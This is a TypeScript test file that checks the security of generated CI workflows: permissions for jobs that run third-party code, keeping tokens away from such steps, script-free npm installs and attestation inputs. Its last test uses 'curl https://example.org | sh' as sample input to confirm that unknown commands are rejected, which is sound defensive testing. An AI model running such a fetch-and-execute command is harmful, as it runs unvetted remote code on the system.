import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { everything, permissionsOf, runsOf, tokensOf, withTable, workflowsOf } from './jobs.ts';

const shapes = {
  everything,
  'crates alone': { ...everything, hasPython: false, hasWheels: false },
  'no attestations': { ...everything, attests: false },
};

describe.each(Object.entries(shapes))('the jobs of the generated workflows: %s', (_, model) => {
  const jobs = workflowsOf(model).flatMap((workflow) =>
    workflow.jobs.map((job) => ({
      id: `${workflow.file}: ${job.id}`,
      job,
      permissions: permissionsOf(job, workflow),
      isForeign: job.steps.some((step) => runsOf(step).has('foreign')),
    })),
  );

  it('that run code of others may read the repository, and nothing else', () => {
    const foreign = jobs.filter(({ isForeign }) => isForeign);
    expect(foreign.length).toBeGreaterThan(3);
    for (const { id, permissions } of foreign)
      expect([id, permissions]).toEqual([id, ['contents: read']]);
  });

  it('that can ask for an identity, or write, run no code of others', () => {
    const holding = jobs.filter(({ permissions }) =>
      permissions.some((one) => /: write$/.test(one)),
    );
    expect(holding.map(({ job }) => job.id).toSorted()).toEqual(['publish', 'status']);
    expect(holding.filter(({ isForeign }) => isForeign)).toEqual([]);
  });

  it('hand a token to no step that runs code of others, nor to one after it', () => {
    for (const { id, job } of jobs) {
      const first = job.steps.findIndex((step) => runsOf(step).has('foreign'));
      const after = first === -1 ? [] : job.steps.slice(first);
      expect([id, after.flatMap(tokensOf)]).toEqual([id, []]);
      expect([id, tokensOf(job)]).toEqual([id, []]);
    }
  });

  it('install npm packages without their scripts, from the lock file', () => {
    for (const { id, job } of jobs) {
      expect([id, job.steps.some((step) => runsOf(step).has('npm'))]).toEqual([id, true]);
    }
  });

  it('attest what no code of others can have written', () => {
    const attesting = jobs.filter(({ job }) =>
      job.steps.some(({ uses }) => uses?.action === 'actions/attest'),
    );
    expect(attesting.filter(({ isForeign }) => isForeign)).toEqual([]);
    // What comes from other jobs lies in a folder of its own.
    for (const { job } of attesting) {
      const download = job.steps.find(({ uses }) => uses?.action === 'actions/download-artifact');
      expect(download?.with.get('path')?.value).toBe('artifacts');
      const read = job.steps.flatMap((step) => step.with.get('subject-checksums')?.value ?? []);
      expect(new Set(read)).toEqual(new Set(['dist/release/SHA256SUMS']));
    }
  });
});

it('docs/security.md shows them as they are derived', async () => {
  const text = await readFile(join(import.meta.dirname, '../../docs/security.md'), 'utf8');
  expect(await withTable(text)).toBe(text);
});

it('a command that nobody has thought of is not taken for harmless', () => {
  const [workflow] = workflowsOf(everything);
  const step = workflow!.jobs[0]!.steps.find(({ run }) => run !== null)!;
  const run = { ...step.run!, value: 'curl https://example.org | sh' };
  expect(() => runsOf({ ...step, run })).toThrow('what does `curl');
});
